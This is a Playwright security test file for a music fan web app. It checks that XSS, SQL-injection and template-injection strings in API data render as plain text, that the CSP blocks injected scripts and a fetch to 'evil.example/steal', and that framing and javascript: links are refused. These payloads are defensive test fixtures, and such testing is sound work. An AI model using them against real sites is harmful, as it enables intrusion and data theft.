import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { expect, test } from './fixtures'
import { openFullHomePage, openPage } from './page'

const HOSTILE_TEXTS = [
  `<img src=x onerror="hacked=1">`,
  `<script>hacked=1</script>`,
  `"><svg onload=hacked=1>`,
  `'; DROP TABLE users;--`,
  '{{7*7}} <%= 7*7 %>',
]
const hasRunScript = (page: Page) => page.evaluate(() => 'hacked' in window)

/** Changes the server's response to a GET request. */
const changeResponse = (page: Page, path: string, change: (response: never) => unknown) =>
  page.route(path, async (route) => {
    const response = (await (await route.fetch()).json()) as never
    await route.fulfill({ json: change(response) })
  })

test('renders hostile markup as text', { tag: ['@desktop', '@long'] }, async ({ page }) => {
  await changeResponse(page, '/api/polls/active', ([poll]: [{ options: object[] }]) => [
    {
      ...poll,
      title: HOSTILE_TEXTS[0],
      description: HOSTILE_TEXTS[1],
      options: HOSTILE_TEXTS.map((title, index) => ({ id: `o${index}`, title, voteCount: null })),
    },
  ])
  await changeResponse(page, '/api/tracks', (tracks: object[]) =>
    tracks.map((track, index) => ({
      ...track,
      title: HOSTILE_TEXTS[index % HOSTILE_TEXTS.length],
      artist: HOSTILE_TEXTS[0],
      album: HOSTILE_TEXTS[1],
    })),
  )
  await changeResponse(page, '/api/concerts/upcoming', (shows: object[]) =>
    shows.map((show, index) => ({
      ...show,
      venue: HOSTILE_TEXTS[index % HOSTILE_TEXTS.length],
      city: HOSTILE_TEXTS[2],
      address: HOSTILE_TEXTS[0],
    })),
  )
  await changeResponse(page, '/api/leaderboard', () => ({
    entries: HOSTILE_TEXTS.map((username, index) => ({ rank: index + 1, username, points: 5 })),
    me: null,
  }))
  await openFullHomePage(page)
  const options = page.getByRole('region', { name: 'Community Voting' }).getByRole('button')
  await expect(options).toHaveText(HOSTILE_TEXTS)
  const trackList = page.getByRole('list', { name: 'All tracks' })
  for (const text of HOSTILE_TEXTS) await expect(trackList.getByText(text, { exact: true }).first()).toBeVisible()
  await page.getByRole('article', { name: 'NEXT SHOW' }).scrollIntoViewIfNeeded()
  await page.getByRole('grid').getByRole('button', { name: HOSTILE_TEXTS[0] }).first().click()
  await expect(page.getByRole('dialog')).toContainText('<img src=x')
  expect(await hasRunScript(page)).toBe(false)
  await openPage(page, '/hub')
  await expect(options).toHaveText(HOSTILE_TEXTS)
  await expect(page.getByRole('region', { name: 'Top supporters' }).getByRole('listitem').last()).toContainText(
    '{{7*7}}',
  )
  expect(await hasRunScript(page)).toBe(false)
})

test('the CSP blocks injected script', { tag: '@desktop' }, async ({ page, expectConsoleError }) => {
  expectConsoleError(/Content Security Policy/)
  await openPage(page)
  await page.evaluate(async () => {
    const violations: string[] = []
    Object.assign(window, { violations })
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      violations.push(`${effectiveDirective} ${blockedURI}`),
    )
    const inline = document.createElement('script')
    inline.textContent = 'hacked = 1'
    const external = document.createElement('script')
    external.src = 'https://evil.example/steal.js'
    const handler = document.createElement('div')
    handler.innerHTML = '<img src="data:," onerror="hacked = 1">'
    const style = document.createElement('style')
    style.textContent = 'body { display: none }'
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    const base = document.createElement('base')
    base.href = 'https://evil.example/'
    for (const element of [inline, external, handler, style, frame, base]) document.body.appendChild(element)
    await fetch('https://evil.example/steal').catch(() => {})
  })
  const violations = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations.sort())
  await expect
    .poll(violations)
    .toEqual([
      'base-uri https://evil.example/',
      'connect-src https://evil.example/steal',
      'frame-src https://evil.example',
      'script-src-attr inline',
      'script-src-elem https://evil.example/steal.js',
      'script-src-elem inline',
      'style-src-elem inline',
    ])
  expect(await hasRunScript(page)).toBe(false)
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
})

test('rejects being framed by another site', {
  tag: '@desktop',
}, async ({ page, baseURL, expectConsoleError }) => {
  expectConsoleError(/frame-ancestors/)
  const framingSite = createServer((_, response) =>
    response.setHeader('content-type', 'text/html').end(`<!doctype html><title>Evil</title><iframe src="${baseURL}/">`),
  ).listen(0, 'localhost')
  await once(framingSite, 'listening')
  await page.goto(`http://localhost:${(framingSite.address() as AddressInfo).port}/`)
  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
  framingSite.close()
})

test('a javascript: link does nothing', { tag: '@desktop' }, async ({ page, expectConsoleError }) => {
  expectConsoleError(/Content Security Policy|blocked a javascript/)
  await changeResponse(page, '/api/config', (config: { artist: { links: object } }) => {
    const links = { ...config.artist.links, contact: 'javascript:hacked=1', broadcast: 'javascript:hacked=1' }
    return { ...config, artist: { ...config.artist, links } }
  })
  await openPage(page)
  const opened: Page[] = []
  page.context().on('page', (tab) => opened.push(tab))
  await page.getByRole('contentinfo').getByRole('link', { name: 'Contact' }).click()
  await page.getByRole('link', { name: 'Join broadcast' }).click()
  await expect(page.getByRole('heading', { level: 1 })).toHaveCount(1)
  for (const tab of [page, ...opened]) expect(await hasRunScript(tab)).toBe(false)
})
